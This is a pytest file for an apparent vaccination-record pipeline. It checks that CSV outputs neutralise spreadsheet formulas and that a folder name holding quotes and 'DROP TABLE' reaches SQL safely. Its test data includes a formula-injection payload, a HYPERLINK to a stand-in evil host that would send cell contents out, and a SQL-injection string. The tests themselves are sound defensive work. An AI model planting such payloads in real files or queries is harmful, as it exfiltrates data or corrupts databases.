"""Files officers open in Excel never hold a live formula; odd folder names reach SQL quoted."""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

import pyarrow as pa
import pytest

from tests.pipeline.conftest import RECORD_HEADER, Province
from vaxtrust.engine import create_engine
from vaxtrust.engine.base import Engine
from vaxtrust.pipeline.run import clean
from vaxtrust.pipeline.settings import CleanSettings
from vaxtrust.spreadsheet import safe_cell

SETTINGS = CleanSettings(today=dt.date(2026, 1, 1), write_csv=True)
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"bấm")', "+1+1", "-2+3", "@SUM(A1)",
            "\t=1", "\r=1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_starts_get_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Nguyễn Văn An", "0912345678", "2021-07-15", "", "a=b", "'x"])
def test_plain_text_is_unchanged(text: str) -> None:
    assert safe_cell(text) == text


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


@pytest.mark.parametrize("engine_writer", ["duckdb", "arrow"])
def test_engine_csv_is_spreadsheet_safe(tmp_path: Path, engine_writer: str) -> None:
    table = pa.table({"text": FORMULAS + ["Trần Thị Bình"], "number": list(range(-6, 1))})
    with create_engine("duckdb", threads=1) as engine:
        engine.register("t", table)
        path = tmp_path / "out.csv"
        if engine_writer == "arrow":
            Engine.write_csv(engine, "t", path)  # the default every other engine inherits
        else:
            engine.write_csv("t", path)
    rows = _rows(path)
    assert [row["text"] for row in rows] == ["'" + f for f in FORMULAS] + ["Trần Thị Bình"]
    assert [row["number"] for row in rows] == [str(n) for n in range(-6, 1)]  # numbers stay


def _with_formula_record(province: Province) -> None:
    """A record whose dose number is a formula: it is rejected, and shown in rejects.csv."""
    path = province.records[0]
    with path.open("a", encoding="utf-8", newline="") as file:
        row = dict.fromkeys(RECORD_HEADER, "")
        row.update({"Mã bản ghi": "=1+2", "Họ và tên": "=HYPERLINK(\"x\")",
                    "Ngày sinh": "01/01/1990", "Mũi tiêm": "+99", "Ngày tiêm": "01/08/2021"})
        csv.writer(file).writerow(row.values())


def test_rejects_and_results_csv_are_spreadsheet_safe(province: Province, tmp_path: Path) -> None:
    _with_formula_record(province)
    out = tmp_path / "run"
    clean(province.records, province.register, out, settings=SETTINGS)
    rejects = [row for row in _rows(out / "rejects.csv") if row["record_id"] == "'=1+2"]
    assert {row["value"] for row in rejects} >= {"'+99"}
    results = [row for row in _rows(out / "results.csv") if row["record_id"] == "'=1+2"]
    assert len(results) == 1
    for path in (out / "rejects.csv", out / "results.csv"):
        for row in _rows(path):
            assert not any(value[:1] in {"=", "+", "-", "@", "\t", "\r"}
                           for value in row.values() if value), row


def test_out_folder_with_quotes_in_its_name(province: Province, tmp_path: Path) -> None:
    out = tmp_path / "it's a \"run\"; DROP TABLE x" / "run"
    out.parent.mkdir()
    summary = clean(province.records, province.register, out, settings=SETTINGS)
    assert summary.results > 0
    assert (out / "results.parquet").is_file() and (out / "rejects.csv").is_file()
